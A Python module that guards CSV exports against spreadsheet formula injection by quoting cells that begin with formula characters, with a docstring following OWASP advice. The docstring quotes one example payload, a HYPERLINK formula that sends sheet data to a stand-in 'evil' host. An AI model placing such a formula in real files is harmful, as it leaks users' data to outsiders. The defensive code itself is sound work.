"""Spreadsheet formula injection (CSV injection): no cell of a CSV export runs as a formula.

Excel, LibreOffice and Google Sheets run a CSV cell that starts with ``=``, ``+``, ``-`` or
``@`` (and some also after a leading tab, carriage return or space) as a formula, e.g.
``=HYPERLINK("http://evil/?"&A1)`` that sends the sheet to a stranger when clicked. Any
cell can carry client text: answers, but also ``_version``, ``_id``, a geopoint's parts,
choice names in headers. So the CSV writer passes *every* cell through ``safe_cells``,
not only answers. OWASP's advice is followed: such a cell gets a leading ``'`` (which
spreadsheets show as "text"), unless it is a plain number such as ``-4.05``.

XLSX needs no quoting: its cells are typed, and the exporter writes text only with
``write_string`` (never ``write``, which may turn text into a formula or a link).
"""

from __future__ import annotations

import re
from typing import Any

# The OWASP list, their full-width forms (some spreadsheets map them), and the
# whitespace after which a formula still runs.
RISKY_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_LEADING_SPACE = " \t\r\n\u00a0\u3000"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(value: str) -> str:
    """``value``, with a ``'`` in front if a spreadsheet would run it as a formula."""
    if not value:
        return value
    first = value[0]
    if first in _LEADING_SPACE:
        stripped = value.lstrip(_LEADING_SPACE)
        if not stripped or not stripped.startswith(RISKY_START):
            return value
        first = stripped[0]
    elif not value.startswith(RISKY_START):
        return value
    if first in "+-" and _PLAIN_NUMBER.fullmatch(value):
        return value  # a negative latitude is a number, not a formula
    return "'" + value


def safe_cells(cells: list[Any]) -> list[Any]:
    """Every text cell of a row made safe; numbers pass as they are."""
    return [spreadsheet_safe(c) if type(c) is str else c for c in cells]
